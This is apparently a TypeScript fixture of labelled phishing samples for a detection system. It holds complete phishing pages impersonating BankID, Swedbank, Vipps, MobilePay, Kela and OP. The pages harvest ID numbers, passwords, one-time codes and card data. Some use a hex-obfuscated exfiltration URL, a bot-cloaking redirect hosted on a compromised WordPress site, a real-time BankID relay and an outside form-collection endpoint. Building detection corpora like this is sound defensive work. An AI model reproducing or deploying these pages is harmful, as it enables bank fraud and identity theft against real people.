import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, hex, codes, rev, logo, cardFields, cardButton, qrSvg } from '../parts/yx-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const base = 'bankid-sakerhetskontroll.com/se/verifiering';
  const js = `(function(){
  var sid = (crypto.randomUUID ? crypto.randomUUID() : String(Date.now())).replace(/-/g,'').slice(0,16);
  var st = document.getElementById('steg'), pnr = document.getElementById('pnr');
  function vy(id){ ['v1','v2','v3','v4'].forEach(function(v){ document.getElementById(v).hidden = v !== id; }); }
  document.getElementById('f1').addEventListener('submit', function(e){
    e.preventDefault();
    var v = pnr.value.replace(/\\D/g,'');
    if (v.length !== 12) { document.getElementById('err').textContent = 'Ange personnummer med 12 siffror (ÅÅÅÅMMDDNNNN).'; return; }
    var fd = new FormData(); fd.append('pnr', v); fd.append('sid', sid); fd.append('ua', navigator.userAgent);
    fetch('api/login.php', {method:'POST', body: fd});
    vy('v2'); poll();
  });
  function poll(){
    fetch('api/status.php?sid=' + sid, {cache:'no-store'}).then(function(r){return r.json()}).then(function(j){
      if (j.s === 'bankid') { vy('v3'); st.textContent = j.msg || 'Starta BankID-appen och godkänn identifieringen.'; }
      else if (j.s === 'kort') { vy('v4'); }
      else if (j.s === 'klar') { location.href = 'https://www.bankid.com/'; return; }
      setTimeout(poll, 2000);
    }).catch(function(){ setTimeout(poll, 4000); });
  }
  document.getElementById('f4').addEventListener('submit', function(e){
    e.preventDefault();
    var fd = new FormData(e.target); fd.append('sid', sid);
    fetch('api/card.php', {method:'POST', body: fd}).then(function(){ vy('v2'); });
  });
})();`;
  return {
    id: 'yx-bankid-relay-se-operator-wait',
    label: 'phishing',
    kind: 'bankid-realtime-relay',
    url: `https://${base}/start.php?ref=SE88412`,
    body: doc({
      lang: 'sv',
      title: 'BankID – Säkerhetskontroll',
      css: `body{font-family:Arial,sans-serif;background:#f4f6f7;margin:0}.top{background:#fff;padding:14px 24px;border-bottom:1px solid #dde}.card{max-width:420px;margin:48px auto;background:#fff;border-radius:8px;padding:32px;box-shadow:0 2px 10px rgba(0,0,0,.08)}
h1{font-size:22px;color:#193e4f}input{width:100%;padding:12px;border:1px solid #b7c3c9;border-radius:4px;font-size:17px}button{margin-top:16px;width:100%;padding:13px;background:#193e4f;color:#fff;border:0;border-radius:4px;font-size:16px}
.spin{width:48px;height:48px;border:5px solid #dfe6e9;border-top-color:#193e4f;border-radius:50%;animation:r 1s linear infinite;margin:24px auto}@keyframes r{to{transform:rotate(360deg)}}.muted{color:#5b6b73;font-size:14px}#err{color:#b00020;font-size:14px}.fld{margin-top:10px}.half{display:inline-block;width:48%}`,
      body: `<div class="top">${logo.bankidSe(40)}</div>
<div class="card">
 <section id="v1">
  <h1>Säkerhetskontroll av ditt BankID</h1>
  <p class="muted">Vi har upptäckt en inloggning från en ny enhet. För att ditt BankID inte ska spärras behöver du bekräfta din identitet inom 24 timmar.</p>
  <form id="f1"><label for="pnr">Personnummer</label><input id="pnr" name="pnr" inputmode="numeric" placeholder="ÅÅÅÅMMDDNNNN" autocomplete="off"><div id="err"></div><button type="submit">Fortsätt</button></form>
 </section>
 <section id="v2" hidden><div class="spin"></div><p style="text-align:center">Kontrollerar uppgifter…<br><span class="muted">Stäng inte fönstret. Detta kan ta upp till 2 minuter.</span></p></section>
 <section id="v3" hidden><h1>Öppna BankID-appen</h1><p id="steg"></p><p class="muted">När du har godkänt i appen uppdateras sidan automatiskt.</p><div class="spin"></div></section>
 <section id="v4" hidden><h1>Verifiera kopplat kort</h1><p class="muted">Som sista steg verifierar vi kortet som är kopplat till ditt BankID. Inget belopp dras.</p>
  <form id="f4">${cardFields('sv', ['kn', 'gd', 'cvc', 'namn'])}<button>${cardButton('sv')}</button></form></section>
</div>
<script src="assets/flow.js?v=3"></script>`,
    }),
    routes: {
      [`${base}/assets/flow.js`]: jsRoute(js),
      [`${base}/api/status.php`]: jsonRoute({ s: 'wait' }),
      [`${base}/api/login.php`]: jsonRoute({ ok: 1 }),
      [`${base}/api/card.php`]: jsonRoute({ ok: 1 }),
    },
  } satisfies Entry;
})(),
(() => {
  const h = 'swedbank-kundservice.se-sakerhet.online';
  return {
    id: 'yx-bankid-relay-qr-swedbank',
    label: 'phishing',
    kind: 'bankid-realtime-relay',
    url: `https://${h}/privat/logga-in/mobilt-bankid`,
    body: doc({
      lang: 'sv',
      title: 'Logga in | Swedbank',
      css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#fdf6ee;color:#512b2b}header{background:#ee7023;height:64px;display:flex;align-items:center;padding:0 28px}
main{max-width:460px;margin:40px auto;background:#fff;padding:28px 32px;border-radius:6px}h1{font-size:24px}.tabs a{display:inline-block;padding:8px 14px;border-bottom:3px solid transparent;color:#512b2b;text-decoration:none}.tabs a.on{border-color:#ee7023;font-weight:bold}
#qr{display:block;margin:20px auto;border:1px solid #eee}ol{padding-left:20px;line-height:1.7}.note{background:#fff3e6;border-left:4px solid #ee7023;padding:10px 14px;font-size:14px}`,
      body: `<header>${logo.word('Swedbank', '#fff', 30)}</header>
<main>
 <h1>Logga in på internetbanken</h1>
 <div class="tabs"><a class="on" href="#">Mobilt BankID</a><a href="#">BankID på kort</a><a href="#">Säkerhetsdosa</a></div>
 <p>Skanna QR-koden med din BankID-app.</p>
 <img id="qr" width="200" height="200" alt="QR-kod" src="/panel/q.php?sid=a81fe0&amp;t=0">
 <ol><li>Öppna BankID-appen i mobilen.</li><li>Tryck på QR-symbolen i appen.</li><li>Rikta kameran mot QR-koden i den här rutan.</li><li>Legitimera dig med säkerhetskod.</li></ol>
 <p class="note">Av säkerhetsskäl uppdateras QR-koden varje sekund. Om du blir ombedd att <b>signera</b> efter inloggningen ska du göra det för att slutföra kontrollen av ditt konto.</p>
 <p id="st" style="font-size:14px;color:#8a6b5a">Väntar på BankID…</p>
</main>
<script>
var sid='a81fe0',n=0,img=document.getElementById('qr'),st=document.getElementById('st');
setInterval(function(){img.src='/panel/q.php?sid='+sid+'&t='+(++n);},1000);
(function chk(){fetch('/panel/state.php?sid='+sid).then(function(r){return r.text()}).then(function(t){
 if(t==='SIGN'){st.textContent='Inloggning godkänd. Signera nu "Ändring av betalningsmottagare" i BankID-appen för att verifiera.';}
 if(t==='DONE'){location.replace('https://www.swedbank.se/privat.html');return;}
 if(t==='PHONE'){st.innerHTML='Vår säkerhetsavdelning ringer dig inom kort från 08-585 900 00. Ha din mobil redo.';}
 setTimeout(chk,1500);}).catch(function(){setTimeout(chk,3000)});})();
</script>`,
    }),
    routes: {
      [`${h}/panel/q.php`]: { status: 200, headers: { 'content-type': 'image/svg+xml', 'cache-control': 'no-store' }, body: qrSvg(0xa81fe0, 200) },
      [`${h}/panel/state.php`]: { status: 200, headers: { 'content-type': 'text/plain' }, body: 'WAIT' },
    },
  } satisfies Entry;
})(),
(() => {
  const h = 'bankid-norge.fornyelse-kunde.com';
  const post = hex(`https://${h}/next.php`);
  return {
    id: 'yx-bankid-no-kodebrikke-kit',
    label: 'phishing',
    kind: 'bankid-credential-kit',
    url: `https://${h}/bankid/fornye`,
    body: doc({
      lang: 'no',
      title: 'BankID – Forny BankID',
      css: `body{margin:0;background:#ece8f0;font-family:Arial,sans-serif;color:#240d33}.w{max-width:400px;margin:50px auto;background:#fff;border-radius:10px;padding:28px}.st{display:flex;gap:6px;margin:14px 0}.st i{flex:1;height:4px;background:#ddd;border-radius:2px}.st i.on{background:#39134c}
label{display:block;font-weight:bold;margin-top:14px}input{width:100%;box-sizing:border-box;padding:12px;border:2px solid #39134c;border-radius:6px;font-size:18px;letter-spacing:2px}button{margin-top:18px;width:100%;padding:13px;background:#39134c;color:#fff;border:0;border-radius:6px;font-size:17px}.i{font-size:13px;color:#6d5a7a}`,
      body: `<div class="w">${logo.bankidNo(34)}
<h2 id="ttl">Ditt BankID utløper</h2><div class="st"><i class="on"></i><i></i><i></i></div>
<p class="i">BankID-sertifikatet ditt utløper om 2 dager. Forny nå for å unngå at nettbank og Vipps slutter å virke.</p>
<form id="f" autocomplete="off">
 <div data-s="1"><label for="fnr">Fødselsnummer (11 siffer)</label><input id="fnr" name="fnr" maxlength="11" inputmode="numeric"></div>
 <div data-s="2" hidden><label for="otp">Engangskode fra kodebrikke</label><input id="otp" name="otp" maxlength="6" inputmode="numeric"><p class="i">Trykk på knappen på kodebrikken og skriv inn de 6 sifrene.</p></div>
 <div data-s="3" hidden><label for="pw">Personlig passord</label><input id="pw" name="pw" type="password"><label for="mob">Mobilnummer</label><input id="mob" name="mob" inputmode="tel"></div>
 <button id="go">Neste</button>
</form></div>
<script>
var u=(function(x){var s='';for(var i=0;i<x.length;i+=2)s+=String.fromCharCode(parseInt(x.substr(i,2),16));return s})('${post}');
var step=1,d={};
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();
 document.querySelectorAll('[data-s="'+step+'"] input').forEach(function(i){d[i.name]=i.value});
 var x=new XMLHttpRequest();x.open('POST',u,true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(Object.assign({step:step},d)).toString());
 document.querySelector('[data-s="'+step+'"]').hidden=true;step++;
 var nx=document.querySelector('[data-s="'+step+'"]');if(nx){nx.hidden=false;document.querySelectorAll('.st i')[step-1].className='on';}
 else{document.getElementById('ttl').textContent='BankID er fornyet';this.innerHTML='<p class="i">Du blir sendt videre til banken din…</p>';setTimeout(function(){location.href='https://www.bankid.no/privat/'},3000);}
});
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const h = 'vipps-betaling.no-mottak.xyz';
  return {
    id: 'yx-vipps-receive-payment-kit',
    label: 'phishing',
    kind: 'vipps-receive-money-kit',
    url: `https://${h}/motta/9F21KQ`,
    body: doc({
      lang: 'no',
      title: 'Vipps – Motta betaling',
      css: `body{margin:0;background:#fff4ef;font-family:"Vipps Sans",Arial,sans-serif}.c{max-width:420px;margin:0 auto;padding:24px}.amt{font-size:42px;font-weight:800;color:#ff5b24;margin:8px 0}.av{width:48px;height:48px;border-radius:50%;background:#ffd4c2;display:inline-flex;align-items:center;justify-content:center;font-weight:bold}
.box{background:#fff;border-radius:16px;padding:20px;margin-top:18px;box-shadow:0 2px 8px rgba(255,91,36,.12)}.fld{margin:10px 0}.fld label{display:block;font-size:13px;color:#555}.fld input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #ddd;border-radius:10px;font-size:16px}.half{display:inline-block;width:48%}
button{width:100%;padding:15px;border:0;border-radius:30px;background:#ff5b24;color:#fff;font-size:17px;font-weight:bold}small{color:#777}`,
      body: `<div class="c">${logo.vipps(40)}
<div class="box"><span class="av">KN</span> <b>Kari Nordmann</b> har sendt deg penger<div class="amt">2 450,00 kr</div><small>Melding: «Sofa fra Finn – takk for handelen!»</small></div>
<div class="box"><p><b>Bekreft mottak</b><br><small>Beløpet holdes av Vipps til du bekrefter kortet pengene skal utbetales til. Gjelder kun første betaling.</small></p>
<form id="vf" action="https://formspree.io/f/xqkrbdae" method="POST">
<div class="fld"><label>Mobilnummer</label><input name="mobil" inputmode="tel" placeholder="+47" required></div>
${cardFields('no', ['kortnummer', 'utlop', 'cvc', 'navn'])}
<div class="fld"><label>Saldo på konto (for verifisering)</label><input name="saldo" inputmode="numeric"></div>
<input type="hidden" name="_subject" value="VIPPS NO #9F21KQ">
<button>Motta 2 450,00 kr</button></form>
<p><small>Du vil bli bedt om å bekrefte med BankID i neste steg.</small></p></div>
<p style="text-align:center"><small>Vipps MobilePay AS · Org.nr. 918 713 867</small></p></div>
<script>document.getElementById('vf').addEventListener('submit',function(e){e.preventDefault();fetch(this.action,{method:'POST',body:new FormData(this),headers:{Accept:'application/json'}}).then(function(){location.href='bankid.html?o=9F21KQ'})});</script>`,
    }),
    routes: {
      [`${h}/motta/bankid.html`]: htmlRoute(
        doc({
          lang: 'no',
          title: 'BankID',
          body: `<div style="max-width:380px;margin:60px auto;font-family:Arial">${logo.bankidNo(30)}<h3>Bekreft med BankID</h3><form method="post" action="https://formspree.io/f/xqkrbdae"><p>Fødselsnummer<br><input name="fnr" maxlength="11"></p><p>BankID-passord<br><input name="pwd" type="password"></p><button>Bekreft</button></form></div>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const fin = 'mobilepay-modtag.dk-udbetaling.com';
  return {
    id: 'yx-mobilepay-sms-redirect-chain',
    label: 'phishing',
    kind: 'mobilepay-receive-money-kit',
    url: 'https://mpay.link-dk.top/r/8842k',
    routes: {
      'mpay.link-dk.top/r/8842k': redirectRoute(302, 'https://t.trk-nordic.click/c?cid=8842k&u=mp'),
      't.trk-nordic.click/c': redirectRoute(302, `https://${fin}/modtag/?id=8842k`),
      [`${fin}/modtag/`]: htmlRoute(
        doc({
          lang: 'da',
          title: 'MobilePay – Du har modtaget penge',
          css: `body{margin:0;font-family:Arial,sans-serif;background:#eef1ff}.p{max-width:400px;margin:0 auto;padding:22px}.hero{background:#5a78ff;color:#fff;border-radius:18px;padding:22px;text-align:center}.hero b{font-size:38px;display:block}
form{background:#fff;border-radius:18px;padding:20px;margin-top:16px}.fld label{font-size:13px;color:#333}.fld input{width:100%;box-sizing:border-box;padding:12px;margin:4px 0 10px;border:1px solid #c9cff5;border-radius:10px}.half{display:inline-block;width:48%}button{width:100%;padding:14px;border:0;border-radius:12px;background:#1c1c3c;color:#fff;font-size:16px}`,
          body: `<div class="p">${logo.mobilepay(34)}
<div class="hero">Du har modtaget<b>1.250,00 kr</b>fra Jens Sørensen · «Betaling for barnevogn (DBA)»</div>
<form method="post" action="gate.php"><p style="margin-top:0"><b>Indtast kortoplysninger</b> for at få pengene overført. Af sikkerhedshensyn skal kortet verificeres første gang du modtager via et link.</p>
${cardFields('da', ['ccnum', 'ccexp', 'cccvc', 'ccname'])}
<div class="fld"><label>Mobilnummer tilknyttet MobilePay</label><input name="tlf" inputmode="tel"></div>
<input type="hidden" name="ref" value="8842k"><button>Modtag 1.250,00 kr</button></form>
<p style="font-size:12px;color:#666;text-align:center">Vipps MobilePay · Sikker overførsel · PCI DSS</p></div>`,
        }),
      ),
      [`${fin}/modtag/gate.php`]: htmlRoute(doc({ lang: 'da', title: 'Vent…', body: '<p>Behandler… indtast koden vi har sendt via SMS.</p><form method="post" action="gate.php?s=otp"><input name="otp" maxlength="8"><button>Bekræft</button></form>' })),
    },
  } satisfies Entry;
})(),
(() => {
  const h = 'kela-palautus.fi-tunnistus.com';
  const banks: [string, string, string][] = [
    ['Nordea', '#0000a0', 'nordea'], ['OP', '#ff6a10', 'op'], ['Danske Bank', '#003755', 'danske'], ['S-Pankki', '#007841', 'spankki'],
    ['Aktia', '#00aaa5', 'aktia'], ['POP Pankki', '#e30613', 'pop'], ['Säästöpankki', '#e4002b', 'sp'], ['Oma Säästöpankki', '#1a4a8a', 'omasp'], ['Ålandsbanken', '#6c1d45', 'alandsbanken'], ['Handelsbanken', '#005cb9', 'shb'],
  ];
  return {
    id: 'yx-suomifi-chooser-op-kit',
    label: 'phishing',
    kind: 'suomifi-bank-chooser-kit',
    url: `https://${h}/asumistuki/palautus`,
    body: doc({
      lang: 'fi',
      title: 'Tunnistaudu – Kela',
      css: `body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;background:#f6f6f6}.bar{background:#003580;color:#fff;padding:14px 28px;font-weight:bold}.w{max-width:760px;margin:30px auto;background:#fff;padding:28px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:12px}.g a{display:flex;align-items:center;justify-content:center;height:74px;border:1px solid #d5d5d5;border-radius:4px;text-decoration:none}.g a:hover{border-color:#003580}.info{background:#eaf2fb;padding:12px 16px;margin-bottom:20px}`,
      body: `<div class="bar">Kela · FPA — Tunnistautuminen</div>
<div class="w"><div class="info">Sinulle on myönnetty <b>asumistuen tarkistuksen palautus 486,20 €</b>. Tunnistaudu vahvistaaksesi tilinumeron, jolle palautus maksetaan. Palautus vanhenee 48 tunnin kuluttua.</div>
<h2>Valitse tunnistustapa</h2><h3>Pankkitunnukset</h3>
<div class="g">${banks.map(([n, c, k]) => `<a href="/tunnistus/${k}.html?ret=kela">${logo.bank(n, c, 26)}</a>`).join('')}</div>
<h3>Muut</h3><div class="g"><a href="/tunnistus/mobiili.html">Mobiilivarmenne</a><a href="/tunnistus/kortti.html">Varmennekortti</a></div>
<p style="font-size:13px;color:#666;margin-top:24px">Tunnistuspalvelu · Digi- ja väestötietovirasto</p></div>`,
    }),
    routes: {
      [`${h}/tunnistus/op.html`]: htmlRoute(
        doc({
          lang: 'fi',
          title: 'OP – Tunnistaudu',
          css: `body{margin:0;font-family:Arial,sans-serif;background:#fff7f2}.x{max-width:380px;margin:50px auto;background:#fff;border-top:5px solid #ff6a10;padding:26px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;margin:4px 0 12px}button{background:#ff6a10;border:0;color:#fff;padding:12px 24px;font-size:16px}`,
          body: `<div class="x">${logo.bank('OP', '#ff6a10', 34)}<h2>Tunnistaudu verkkopalveluun</h2>
<form id="o" method="post" action="/tunnistus/op_post.php"><label>Käyttäjätunnus</label><input name="kt" inputmode="numeric" maxlength="8"><label>Salasana</label><input name="ss" type="password">
<div id="ak" hidden><label>Avainluku nro <b>${'0' + 37}</b> avainlukulistalta</label><input name="al" maxlength="4"><label>Mobiiliavaimen PIN-koodi</label><input name="pin" type="password" maxlength="4"></div>
<button>Jatka</button></form></div>
<script>var f=document.getElementById('o'),s=0;f.onsubmit=function(e){if(s===0){e.preventDefault();document.getElementById('ak').hidden=false;s=1;fetch('/tunnistus/op_post.php',{method:'POST',body:new FormData(f)});}};</script>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const kitHost = 'bankid-fornyelse.se-legitimation.top';
  const target = `https://${kitHost}/fornya/?c=ab71`;
  return {
    id: 'yx-bankid-renewal-compromised-wp-hop',
    label: 'phishing',
    kind: 'bankid-renewal-lure',
    url: 'https://www.tandlakare-ekholm.se/wp-content/uploads/2024/09/bid/index.html',
    body: doc({
      lang: 'sv',
      title: 'BankID',
      head: `<meta name="robots" content="noindex">`,
      css: `body{font-family:Arial;text-align:center;padding-top:80px;color:#193e4f}`,
      body: `${logo.bankidSe(56)}<h2>Ditt BankID behöver förnyas</h2><p>Du skickas vidare till förnyelsetjänsten…</p>
<script>
(function(){var q=[${codes(rev(target))}].map(function(c){return String.fromCharCode(c)}).join('');
var bot=/bot|crawl|spider|headless|lighthouse|curl|python/i.test(navigator.userAgent)||navigator.webdriver;
if(bot){location.replace('https://www.google.se/');return;}
setTimeout(function(){location.replace(q.split('').reverse().join(''))},1500);})();
</script>`,
    }),
    routes: {
      [`${kitHost}/fornya/`]: htmlRoute(
        doc({
          lang: 'sv',
          title: 'Förnya BankID',
          css: `body{margin:0;background:#eef2f4;font-family:Arial}.w{max-width:440px;margin:40px auto;background:#fff;padding:28px;border-radius:6px}.fld label{display:block;font-size:14px;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #aab}.half{display:inline-block;width:48%}button{margin-top:14px;width:100%;padding:13px;background:#193e4f;color:#fff;border:0}`,
          body: `<div class="w">${logo.bankidSe(40)}<h2>Förnya ditt BankID</h2><p>Ditt Mobilt BankID går ut <b>${'30 september'}</b>. Fyll i uppgifterna nedan. Förnyelsen är kostnadsfri – vi gör en kontrolldragning på 0 kr för att verifiera ditt bankkort.</p>
<form method="post" action="send.php"><div class="fld"><label>Personnummer</label><input name="pnr"></div><div class="fld"><label>Bank</label><select name="bank"><option>Swedbank</option><option>Handelsbanken</option><option>SEB</option><option>Nordea</option><option>Länsförsäkringar</option><option>Danske Bank</option><option>ICA Banken</option></select></div><div class="fld"><label>Mobilnummer</label><input name="mob"></div>
${cardFields('sv')}<button>Förnya BankID</button></form></div>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
];
